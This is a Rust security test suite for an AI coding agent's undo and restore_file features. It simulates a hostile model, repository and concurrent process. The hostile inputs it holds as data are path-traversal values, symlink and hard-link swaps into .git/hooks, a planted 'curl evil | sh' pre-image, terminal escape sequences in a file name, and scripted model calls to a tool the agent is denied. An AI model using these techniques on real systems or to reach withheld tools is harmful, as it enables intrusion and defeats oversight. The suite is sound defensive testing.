//! Attacks on checkpoints, `/undo` and `restore_file` (issue 24, stage d), through the real
//! binary: a hostile model, a hostile repository and a concurrent process try to make an undo
//! write outside the workspace, touch a file the turn did not change, lose a person's work or
//! reach `restore_file` themselves. A test of an attack that holds passes; a test of an attack
//! that succeeds asserts the safe behaviour and is ignored with `finding: …` (run them with
//! `--ignored`).
//!
//! "After the turn" below is what a concurrent process (a background command the model
//! started, the repository's own watcher, another program of the person's) does between the
//! turn and the `/undo`; the test process plays it.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;
#[path = "common/pty.rs"]
mod pty;
#[path = "common/repl.rs"]
mod repl_kit;

use std::path::{Path, PathBuf};

use common::{Dirs, json_lines, kind as result_kind, records, stderr};
use dsh_testkit::model_server::{Reply, ScriptedServer, Turn};
use repl_kit::{journal, kind, spawn, wait_at_prompt, world};
use serde_json::{Value, json};

const ALLOW_FILE_TOOLS: &str = "[permissions]\nallow = [\"write_file\", \"edit_file\"]\n";

/// What `/undo` says with every answer: its output is complete once this shows.
const UNDO_DONE: &str = "is not covered";

fn tool_call(id: &str, name: &str, args: &Value) -> Reply {
    Turn::tool_call(id, name, &args.to_string()).into()
}

fn read(id: &str, path: &str) -> Reply {
    tool_call(id, "read_file", &json!({ "path": path }))
}

fn write(id: &str, path: &str, content: &str) -> Reply {
    tool_call(id, "write_file", &json!({"path": path, "content": content}))
}

fn edit(id: &str, path: &str, old: &str, new: &str) -> Reply {
    tool_call(
        id,
        "edit_file",
        &json!({"path": path, "old_string": old, "new_string": new}),
    )
}

/// The SHA-256 the seam names `bytes` by (computed by the store itself, in a scratch
/// directory, so the test and dsh cannot disagree on the digest's spelling).
fn digest(bytes: &[u8]) -> String {
    let scratch = tempfile::tempdir().unwrap();
    dsh_tools::PreImages::new(scratch.path().join("d"))
        .keep(bytes)
        .unwrap()
}

/// A `restore_file` batch line.
fn restore(path: &str, to: Value, expect: &str) -> Value {
    let args = json!({"path": path, "to": to, "expect": expect});
    json!({"name": "restore_file", "args": args})
}

fn file(p: &Path) -> Option<String> {
    std::fs::read_to_string(p).ok()
}

/// The REPL session's id: its journal's name.
fn session_id(d: &Dirs) -> String {
    std::fs::read_dir(d.home.join("sessions"))
        .unwrap()
        .filter_map(Result::ok)
        .map(|e| e.path())
        .find(|p| p.extension().is_some_and(|e| e == "jsonl"))
        .unwrap()
        .file_stem()
        .unwrap()
        .to_string_lossy()
        .into_owned()
}

/// The session's pre-image store.
fn store(d: &Dirs) -> PathBuf {
    d.home.join("checkpoints").join(session_id(d))
}

/// Types `/undo` (with `arg`) and waits for its whole answer and the prompt after it.
fn undo(pty: &pty::Pty, arg: &str) -> pty::Screen {
    let mark = pty.mark();
    pty.send_line(&format!("/undo{arg}"));
    pty.wait_for_text_since(mark, UNDO_DONE);
    wait_at_prompt(pty);
    // The screen as it stands once the prompt is back (the raw bytes can be read before
    // the screen has drawn them).
    pty.wait_for_text(UNDO_DONE)
}

/// Sends `prompt` and waits for the scripted model's final `done` text and the prompt.
fn turn(pty: &pty::Pty, prompt: &str, done: &str) {
    pty.send_line(prompt);
    pty.wait_for_text(done);
    wait_at_prompt(pty);
}

fn replace_with_symlink(link: &Path, target: &Path) {
    if link.is_dir() && !link.is_symlink() {
        std::fs::remove_dir_all(link).unwrap();
    } else {
        std::fs::remove_file(link).unwrap();
    }
    std::os::unix::fs::symlink(target, link).unwrap();
}

// ------------------------------------------------------------------ who may call restore_file

/// A hostile model calls `restore_file` itself — even with an allow rule naming it — to
/// remove a file it never created: refused at the registry (withheld from the main agent),
/// never offered, and the file stays.
#[test]
fn a_model_cannot_call_restore_file_even_when_a_rule_allows_it() {
    let d = Dirs::new();
    let victim = d.ws.join("victim.txt");
    std::fs::write(&victim, "precious\n").unwrap();
    d.write_user_config(
        "[permissions]\nallow = [\"restore_file\", \"write_file\", \"edit_file\"]\n",
    );
    let server = ScriptedServer::start(vec![
        tool_call(
            "r1",
            "restore_file",
            &json!({"path": "victim.txt", "to": null, "expect": digest(b"precious\n")}),
        ),
        Reply::text("done"),
    ]);
    let out = common::scripted_exec(&d, &server.url, &["--json", "--yolo"], "go")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let result = json_lines(&out)
        .into_iter()
        .find(|r| r["kind"] == "tool_result" && r["call_id"] == "r1")
        .unwrap();
    assert_eq!(result["failure_kind"], "unknown_tool", "{result}");
    assert_eq!(file(&victim).as_deref(), Some("precious\n"));
    for r in server.requests() {
        let offered: Vec<&str> = r["tools"]
            .as_array()
            .unwrap()
            .iter()
            .filter_map(|t| t["function"]["name"].as_str())
            .collect();
        assert!(!offered.contains(&"restore_file"), "{offered:?}");
    }
}

/// A sub-agent profile that names `restore_file` (the person's own configuration, even) does
/// not hand it to a child: the child's set is confined to the main agent's, which withholds
/// it, so the child is never offered it and its call is refused; the file stays.
#[test]
fn a_sub_agent_profile_naming_restore_file_does_not_reach_it() {
    let d = Dirs::new();
    let victim = d.ws.join("victim.txt");
    std::fs::write(&victim, "precious\n").unwrap();
    d.write_user_config(
        "[permissions]\nallow = [\"restore_file\"]\n\n[agents.undoer]\ndescription = \"undoes\"\ntools = [\"restore_file\", \"read_file\"]\n",
    );
    let server = ScriptedServer::start(vec![
        tool_call(
            "m1",
            "call_sub_agent",
            &json!({"profile": "undoer", "task": "remove victim.txt"}),
        ),
        tool_call(
            "c1",
            "restore_file",
            &json!({"path": "victim.txt", "to": null, "expect": digest(b"precious\n")}),
        ),
        Reply::text("child done"),
        Reply::text("done"),
    ]);
    let out = common::scripted_exec(&d, &server.url, &["--json", "--yolo"], "go")
        .output()
        .unwrap();
    assert_eq!(file(&victim).as_deref(), Some("precious\n"));
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let results: Vec<Value> = json_lines(&out)
        .into_iter()
        .filter(|r| r["kind"] == "tool_result" && r["call_id"] == "c1")
        .collect();
    assert_eq!(results.len(), 1, "{results:#?}");
    assert_eq!(results[0]["failure_kind"], "unknown_tool", "{results:#?}");
    for r in server.requests().iter().skip(1) {
        let offered: Vec<&str> = r["tools"]
            .as_array()
            .map(|a| {
                a.iter()
                    .filter_map(|t| t["function"]["name"].as_str())
                    .collect()
            })
            .unwrap_or_default();
        assert!(!offered.contains(&"restore_file"), "{offered:?}");
    }
}

/// `dsh batch` lines run with every tool of the session, `restore_file` included, as
/// `batch` calls: without a rule allowing `restore_file` itself it is asked (nobody answers,
/// so refused) — an allow of `write_file` does not spread to it.
#[test]
fn a_batch_restore_file_is_asked_unless_allowed_by_name() {
    for config in [None, Some(ALLOW_FILE_TOOLS)] {
        let d = Dirs::new();
        std::fs::write(d.ws.join("notes.txt"), "mine\n").unwrap();
        if let Some(c) = config {
            d.write_user_config(c);
        }
        let out = d.batch_output(
            &[json!({"name": "restore_file", "args": {
                "path": "notes.txt", "to": null, "expect": digest(b"mine\n")}})],
            &[],
            &[],
        );
        let results = json_lines(&out);
        assert_eq!(results.len(), 1, "{}", stderr(&out));
        assert_ne!(result_kind(&results[0]), "ok", "{config:?}: {}", results[0]);
        assert_eq!(file(&d.ws.join("notes.txt")).as_deref(), Some("mine\n"));
    }
}

/// With `restore_file` allowed by name in a batch, what it may do is still bounded: a
/// malformed digest (path traversal through `to`, upper case) is refused by the schema, a
/// path outside the workspace or into `.git` or under a deny rule of `write_file` is denied,
/// a pre-image kept by another session is not reachable, and a wrong `expect` leaves the
/// file alone. Only the last line, exact in every respect, removes its file.
#[test]
fn a_batch_restore_file_allowed_by_name_is_still_bounded() {
    let d = Dirs::new();
    let ws = &d.ws;
    std::fs::write(ws.join("notes.txt"), "original\n").unwrap();
    std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
    std::fs::write(ws.join(".git/hooks/pre-commit"), "hook\n").unwrap();
    std::fs::create_dir_all(ws.join("secret")).unwrap();
    std::fs::write(ws.join("secret/key.txt"), "key\n").unwrap();
    std::fs::write(d.outside.join("x.txt"), "outside\n").unwrap();

    // A first session replaces notes.txt, keeping "original" as its pre-image.
    d.write_user_config(ALLOW_FILE_TOOLS);
    let out = d.batch_output(
        &[
            json!({"name": "read_file", "args": {"path": "notes.txt"}}),
            json!({"name": "write_file", "args": {"path": "notes.txt", "content": "second\n"}}),
        ],
        &[],
        &[],
    );
    let first = json_lines(&out);
    assert!(
        first.iter().all(|r| result_kind(r) == "ok"),
        "{first:#?} {}",
        stderr(&out)
    );
    let original = digest(b"original\n");
    let kept_elsewhere = std::fs::read_dir(d.home.join("checkpoints"))
        .unwrap()
        .filter_map(Result::ok)
        .any(|e| e.path().join(&original).is_file());
    assert!(kept_elsewhere, "the first session kept the pre-image");

    d.write_user_config(
        "[permissions]\nallow = [\"restore_file\"]\ndeny = [\"write_file(secret/**)\"]\n",
    );
    let now = digest(b"second\n");
    let calls = [
        restore("notes.txt", json!("../../../../etc/passwd"), &now),
        restore("notes.txt", json!(original.to_uppercase()), &now),
        restore("notes.txt", json!(original), "../../x"),
        restore("../outside/x.txt", Value::Null, &digest(b"outside\n")),
        restore(
            &format!("{}/x.txt", d.outside.display()),
            Value::Null,
            &digest(b"outside\n"),
        ),
        restore(".git/hooks/pre-commit", Value::Null, &digest(b"hook\n")),
        restore("secret/key.txt", Value::Null, &digest(b"key\n")),
        // Another session's pre-image: this session keeps none under that digest.
        restore("notes.txt", json!(original), &now),
        restore("notes.txt", Value::Null, &digest(b"not what it holds\n")),
        // Exact in every respect: removes it (the control that the rule does allow).
        restore("notes.txt", Value::Null, &now),
    ];
    let out = d.batch_output(&calls, &[], &[]);
    let results = json_lines(&out);
    assert_eq!(results.len(), calls.len(), "{}", stderr(&out));
    let kinds: Vec<&str> = results.iter().map(result_kind).collect();
    assert_eq!(&kinds[..3], ["invalid_args"; 3], "{results:#?}");
    assert!(
        kinds[3..7].iter().all(|k| *k == "denied"),
        "{kinds:?} {results:#?}"
    );
    assert_eq!(kinds[7], "tool_error", "{results:#?}");
    assert_eq!(kinds[8], "stale_version", "{results:#?}");
    assert_eq!(kinds[9], "ok", "{results:#?}");
    assert_eq!(file(&d.outside.join("x.txt")).as_deref(), Some("outside\n"));
    assert_eq!(
        file(&ws.join(".git/hooks/pre-commit")).as_deref(),
        Some("hook\n")
    );
    assert_eq!(file(&ws.join("secret/key.txt")).as_deref(), Some("key\n"));
    assert!(!ws.join("notes.txt").exists());
}

// ------------------------------------------------------------ a pre-image that cannot be kept

/// When the pre-image store cannot be written (DSH_HOME/checkpoints is a file), a write or
/// an edit of an existing file is refused and leaves the file as it was, with no checkpoint
/// record; creating a new file needs no pre-image and goes ahead, with its checkpoint.
#[test]
fn a_change_whose_pre_image_cannot_be_kept_is_not_made() {
    let d = Dirs::new();
    std::fs::create_dir_all(&d.home).unwrap();
    std::fs::write(d.home.join("checkpoints"), "not a directory\n").unwrap();
    std::fs::write(d.ws.join("notes.txt"), "keep me\n").unwrap();
    d.write_user_config(ALLOW_FILE_TOOLS);
    let out = d.batch_output(
        &[
            json!({"name": "read_file", "args": {"path": "notes.txt"}}),
            json!({"name": "write_file", "args": {"path": "notes.txt", "content": "lost?\n"}}),
            json!({"name": "edit_file", "args": {
                "path": "notes.txt", "old_string": "keep", "new_string": "lose"}}),
            json!({"name": "write_file", "args": {"path": "fresh.txt", "content": "new\n"}}),
        ],
        &[],
        &[],
    );
    let results = json_lines(&out);
    let kinds: Vec<&str> = results.iter().map(result_kind).collect();
    assert_eq!(
        kinds,
        ["ok", "tool_error", "tool_error", "ok"],
        "{results:#?}"
    );
    assert!(
        results[1]["content"]
            .as_str()
            .unwrap()
            .contains("nothing was changed"),
        "{}",
        results[1]
    );
    assert_eq!(file(&d.ws.join("notes.txt")).as_deref(), Some("keep me\n"));
    assert_eq!(file(&d.ws.join("fresh.txt")).as_deref(), Some("new\n"));
    let journal = common::journals(&d.home);
    let checkpoints: Vec<Value> = records(&journal[0])
        .into_iter()
        .filter(|r| r["kind"] == "checkpoint")
        .collect();
    assert_eq!(checkpoints.len(), 1, "{checkpoints:#?}");
    assert_eq!(checkpoints[0]["path"], "fresh.txt");
    assert_eq!(checkpoints[0]["before"], Value::Null);
}

// ----------------------------------------------------------- the path swapped after the turn

/// The turn created `decoy.txt` with the content of the person's `victim.txt` (a hostile
/// model can read it first); after the turn `decoy.txt` becomes a symlink to `victim.txt`.
/// `/undo` must not remove `victim.txt`, a file the turn never created.
#[test]
fn undo_does_not_remove_the_target_of_a_symlink_swapped_in_for_a_created_file() {
    let d = world();
    let victim = d.ws.join("victim.txt");
    std::fs::write(&victim, "precious\n").unwrap();
    d.write_user_config(ALLOW_FILE_TOOLS);
    let server = ScriptedServer::start(vec![
        write("c1", "decoy.txt", "precious\n"),
        Reply::text("decoy made"),
    ]);
    let pty = spawn(&d, &server, &[]);
    turn(&pty, "make a file", "decoy made");
    replace_with_symlink(&d.ws.join("decoy.txt"), Path::new("victim.txt"));
    let s = undo(&pty, "");
    repl_kit::leave_at_prompt(pty);
    assert_eq!(
        file(&victim).as_deref(),
        Some("precious\n"),
        "victim.txt was removed by /undo: {}",
        s.dump()
    );
}

/// The turn replaced `a.txt` with the content of the person's `victim.txt`; after the turn
/// `a.txt` becomes a symlink to `victim.txt`. `/undo` must not write `a.txt`'s old content
/// (which the repository chose) into `victim.txt`.
#[test]
fn undo_does_not_write_a_pre_image_through_a_symlink_swapped_in_for_a_changed_file() {
    let d = world();
    let victim = d.ws.join("victim.txt");
    std::fs::write(&victim, "victim text\n").unwrap();
    std::fs::write(d.ws.join("a.txt"), "chosen by the repository\n").unwrap();
    d.write_user_config(ALLOW_FILE_TOOLS);
    let server = ScriptedServer::start(vec![
        read("c1", "a.txt"),
        write("c2", "a.txt", "victim text\n"),
        Reply::text("a changed"),
    ]);
    let pty = spawn(&d, &server, &[]);
    turn(&pty, "change a", "a changed");
    replace_with_symlink(&d.ws.join("a.txt"), Path::new("victim.txt"));
    let s = undo(&pty, "");
    repl_kit::leave_at_prompt(pty);
    assert_eq!(
        file(&victim).as_deref(),
        Some("victim text\n"),
        "victim.txt was overwritten by /undo: {}",
        s.dump()
    );
}

/// After the turn the directory of the files it changed and created is replaced by a symlink
/// to a directory outside the workspace holding files of the same names and contents:
/// `/undo` touches neither.
#[test]
fn undo_does_not_follow_a_directory_swapped_for_a_symlink_outside() {
    let d = world();
    std::fs::create_dir_all(d.ws.join("sub")).unwrap();
    std::fs::write(d.ws.join("sub/old.txt"), "old zero\n").unwrap();
    d.write_user_config(ALLOW_FILE_TOOLS);
    let server = ScriptedServer::start(vec![
        read("c1", "sub/old.txt"),
        edit("c2", "sub/old.txt", "zero", "one"),
        write("c3", "sub/made.txt", "made\n"),
        Reply::text("sub changed"),
    ]);
    let pty = spawn(&d, &server, &[]);
    turn(&pty, "change sub", "sub changed");
    std::fs::write(d.outside.join("old.txt"), "old one\n").unwrap();
    std::fs::write(d.outside.join("made.txt"), "made\n").unwrap();
    replace_with_symlink(&d.ws.join("sub"), &d.outside);
    let s = undo(&pty, "");
    repl_kit::leave_at_prompt(pty);
    assert_eq!(
        file(&d.outside.join("old.txt")).as_deref(),
        Some("old one\n"),
        "{}",
        s.dump()
    );
    assert_eq!(
        file(&d.outside.join("made.txt")).as_deref(),
        Some("made\n"),
        "{}",
        s.dump()
    );
    assert!(s.contains("did not restore sub/old.txt"), "{}", s.dump());
    assert!(s.contains("outside the workspace"), "{}", s.dump());
    assert!(!s.contains("removed sub/made.txt"), "{}", s.dump());
}

/// After the turn the directory of a file it changed becomes a symlink to `.git/hooks` (and
/// to `.dsh`), where files of the same names hold what the turn left: `/undo` must not put
/// the repository's old content there — the protected paths hold for the person's restore.
#[test]
fn undo_does_not_restore_into_protected_paths_through_a_swapped_directory() {
    let d = world();
    std::fs::create_dir_all(d.ws.join("tools")).unwrap();
    std::fs::create_dir_all(d.ws.join("conf")).unwrap();
    std::fs::write(d.ws.join("tools/pre-commit"), "evil hook\n").unwrap();
    std::fs::write(d.ws.join("conf/config.toml"), "# evil config\n").unwrap();
    d.write_user_config(ALLOW_FILE_TOOLS);
    let server = ScriptedServer::start(vec![
        read("c1", "tools/pre-commit"),
        write("c2", "tools/pre-commit", "benign hook\n"),
        read("c3", "conf/config.toml"),
        write("c4", "conf/config.toml", "# benign\n"),
        Reply::text("fixed"),
    ]);
    let pty = spawn(&d, &server, &[]);
    turn(&pty, "fix them", "fixed");
    std::fs::create_dir_all(d.ws.join(".git/hooks")).unwrap();
    std::fs::write(d.ws.join(".git/hooks/pre-commit"), "benign hook\n").unwrap();
    std::fs::create_dir_all(d.ws.join(".dsh")).unwrap();
    std::fs::write(d.ws.join(".dsh/config.toml"), "# benign\n").unwrap();
    replace_with_symlink(&d.ws.join("tools"), Path::new(".git/hooks"));
    replace_with_symlink(&d.ws.join("conf"), Path::new(".dsh"));
    let s = undo(&pty, "");
    repl_kit::leave_at_prompt(pty);
    assert_eq!(
        file(&d.ws.join(".git/hooks/pre-commit")).as_deref(),
        Some("benign hook\n"),
        "{}",
        s.dump()
    );
    assert_eq!(
        file(&d.ws.join(".dsh/config.toml")).as_deref(),
        Some("# benign\n"),
        "{}",
        s.dump()
    );
    assert!(
        s.contains("did not restore tools/pre-commit"),
        "{}",
        s.dump()
    );
    assert!(
        s.contains("did not restore conf/config.toml"),
        "{}",
        s.dump()
    );
    assert!(s.contains("is protected"), "{}", s.dump());
}

/// After the turn a file it changed is replaced by a hard link to a file outside the
/// workspace with the content the turn left: `/undo` refuses it (more than one link).
#[test]
fn undo_does_not_write_through_a_hard_link_swapped_in() {
    let d = world();
    std::fs::write(d.ws.join("a.txt"), "a zero\n").unwrap();
    d.write_user_config(ALLOW_FILE_TOOLS);
    let server = ScriptedServer::start(vec![
        read("c1", "a.txt"),
        edit("c2", "a.txt", "zero", "one"),
        Reply::text("a changed"),
    ]);
    let pty = spawn(&d, &server, &[]);
    turn(&pty, "change a", "a changed");
    let outside = d.outside.join("linked.txt");
    std::fs::write(&outside, "a one\n").unwrap();
    std::fs::remove_file(d.ws.join("a.txt")).unwrap();
    std::fs::hard_link(&outside, d.ws.join("a.txt")).unwrap();
    let s = undo(&pty, "");
    repl_kit::leave_at_prompt(pty);
    assert_eq!(file(&outside).as_deref(), Some("a one\n"), "{}", s.dump());
    assert!(s.contains("did not restore a.txt"), "{}", s.dump());
}

// ------------------------------------------------------------------------ the pre-image store

/// A pre-image changed on disk after the turn is refused, never restored: the file keeps
/// what the turn left and `/undo` says it did not restore it.
#[test]
fn a_tampered_pre_image_is_never_restored() {
    let d = world();
    std::fs::write(d.ws.join("notes.txt"), "version zero\n").unwrap();
    d.write_user_config(ALLOW_FILE_TOOLS);
    let server = ScriptedServer::start(vec![
        read("c1", "notes.txt"),
        edit("c2", "notes.txt", "zero", "one"),
        Reply::text("changed"),
    ]);
    let pty = spawn(&d, &server, &[]);
    turn(&pty, "change it", "changed");
    let kept = store(&d).join(digest(b"version zero\n"));
    assert!(kept.is_file());
    std::fs::write(&kept, "#!/bin/sh\ncurl evil | sh\n").unwrap();
    let s = undo(&pty, "");
    repl_kit::leave_at_prompt(pty);
    assert!(s.contains("did not restore notes.txt"), "{}", s.dump());
    assert_eq!(
        file(&d.ws.join("notes.txt")).as_deref(),
        Some("version one\n")
    );
}

/// A file planted in the store under the digest of content about to be replaced (before the
/// change) is taken for the pre-image: the write goes ahead, the real content is never kept,
/// and `/undo` cannot put it back. Safe: the store checks (or replaces) what it finds, so the
/// undo restores the content the turn replaced.
#[test]
fn a_pre_image_planted_before_the_change_does_not_lose_the_content() {
    let d = world();
    std::fs::write(d.ws.join("notes.txt"), "version zero\n").unwrap();
    d.write_user_config(ALLOW_FILE_TOOLS);
    let server = ScriptedServer::start(vec![
        read("c1", "notes.txt"),
        edit("c2", "notes.txt", "zero", "one"),
        Reply::text("changed"),
    ]);
    let pty = spawn(&d, &server, &[]);
    let dir = store(&d);
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join(digest(b"version zero\n")), "planted\n").unwrap();
    turn(&pty, "change it", "changed");
    let s = undo(&pty, "");
    repl_kit::leave_at_prompt(pty);
    assert_eq!(
        file(&d.ws.join("notes.txt")).as_deref(),
        Some("version zero\n"),
        "{}",
        s.dump()
    );
}

/// An undo whose restore fails for a passing reason (here the store is briefly out of
/// reach) must stay possible: once the store is back, `/undo` again puts the file back.
#[test]
fn an_undo_that_failed_can_be_retried() {
    let d = world();
    std::fs::write(d.ws.join("notes.txt"), "version zero\n").unwrap();
    d.write_user_config(ALLOW_FILE_TOOLS);
    let server = ScriptedServer::start(vec![
        read("c1", "notes.txt"),
        edit("c2", "notes.txt", "zero", "one"),
        Reply::text("changed"),
    ]);
    let pty = spawn(&d, &server, &[]);
    turn(&pty, "change it", "changed");
    let kept = store(&d);
    let aside = d.home.join("aside");
    std::fs::rename(&kept, &aside).unwrap();
    let s = undo(&pty, "");
    assert!(s.contains("did not restore notes.txt"), "{}", s.dump());
    std::fs::rename(&aside, &kept).unwrap();
    let s = undo(&pty, "");
    repl_kit::leave_at_prompt(pty);
    assert_eq!(
        file(&d.ws.join("notes.txt")).as_deref(),
        Some("version zero\n"),
        "{}",
        s.dump()
    );
}

// ------------------------------------------------------------------------------ what is shown

/// A hostile model names a file with terminal control sequences; `/undo`'s report must show
/// them as visible escapes, like every other line from a model or a tool, never send them
/// raw (they could retitle the window, write the clipboard or hide the rest of the line).
#[test]
fn undo_shows_a_file_name_with_control_characters_visibly() {
    let d = world();
    d.write_user_config(ALLOW_FILE_TOOLS);
    let name = "evil\u{1b}]0;owned\u{7}\u{1b}[2Jname.txt";
    let server = ScriptedServer::start(vec![write("c1", name, "x\n"), Reply::text("made it")]);
    let pty = spawn(&d, &server, &[]);
    turn(&pty, "make it", "made it");
    assert!(d.ws.join(name).exists(), "the name is a valid file name");
    let mark = pty.mark();
    let s = undo(&pty, "");
    let raw = pty.raw_since(mark);
    repl_kit::leave_at_prompt(pty);
    assert!(!d.ws.join(name).exists(), "{}", s.dump());
    let seq = b"\x1b]0;owned";
    assert!(
        !raw.windows(seq.len()).any(|w| w == seq),
        "the OSC sequence reached the terminal raw: {}",
        String::from_utf8_lossy(&raw).escape_debug()
    );
}

// ------------------------------------------------------------------- what an undo claims

/// What `run_shell` changes is not claimed: its call has no checkpoint record, and `/undo`
/// removes the file the file tool created while leaving the command's file alone.
#[test]
fn changes_made_by_run_shell_are_not_claimed() {
    let d = world();
    d.write_user_config(
        "[permissions]\nallow = [\"write_file\", \"edit_file\", \"run_shell(touch *)\"]\n",
    );
    let server = ScriptedServer::start(vec![
        tool_call("s1", "run_shell", &json!({"command": "touch by_shell.txt"})),
        write("c1", "by_tool.txt", "tool\n"),
        Reply::text("both made"),
    ]);
    let pty = spawn(&d, &server, &[]);
    turn(&pty, "make two files", "both made");
    assert!(
        d.ws.join("by_shell.txt").exists(),
        "the command ran: {}",
        pty.screen().dump()
    );
    let s = undo(&pty, "");
    repl_kit::leave_at_prompt(pty);
    assert!(s.contains("removed by_tool.txt"), "{}", s.dump());
    assert!(!d.ws.join("by_tool.txt").exists());
    assert!(d.ws.join("by_shell.txt").exists(), "{}", s.dump());
    let records = journal(&d);
    let checkpoints: Vec<&Value> = records.iter().filter(|r| kind(r) == "checkpoint").collect();
    assert!(
        checkpoints.iter().all(|r| r["call_id"] != "s1"),
        "{checkpoints:#?}"
    );
    assert!(
        checkpoints.iter().all(|r| r["path"] != "by_shell.txt"),
        "{checkpoints:#?}"
    );
}

/// A file the person changes after the turn and then sets back to exactly what the turn
/// left is undone (nothing of theirs is lost); one they leave changed — even only by an
/// appended byte — is left alone, with the other files of the turn still put back.
#[test]
fn undo_leaves_any_later_change_and_restores_the_rest() {
    let d = world();
    std::fs::write(d.ws.join("a.txt"), "a zero\n").unwrap();
    std::fs::write(d.ws.join("b.txt"), "b zero\n").unwrap();
    d.write_user_config(ALLOW_FILE_TOOLS);
    let server = ScriptedServer::start(vec![
        read("c1", "a.txt"),
        read("c2", "b.txt"),
        edit("c3", "a.txt", "zero", "one"),
        edit("c4", "b.txt", "zero", "one"),
        write("c5", "c.txt", "made\n"),
        Reply::text("three changed"),
    ]);
    let pty = spawn(&d, &server, &[]);
    turn(&pty, "change three", "three changed");
    std::fs::write(d.ws.join("b.txt"), "b one\n\n").unwrap();
    std::fs::write(d.ws.join("c.txt"), "made, and mine\n").unwrap();
    std::fs::write(d.ws.join("a.txt"), "a mine\n").unwrap();
    std::fs::write(d.ws.join("a.txt"), "a one\n").unwrap();
    let s = undo(&pty, "");
    repl_kit::leave_at_prompt(pty);
    assert_eq!(
        file(&d.ws.join("a.txt")).as_deref(),
        Some("a zero\n"),
        "{}",
        s.dump()
    );
    assert_eq!(file(&d.ws.join("b.txt")).as_deref(), Some("b one\n\n"));
    assert_eq!(
        file(&d.ws.join("c.txt")).as_deref(),
        Some("made, and mine\n")
    );
}
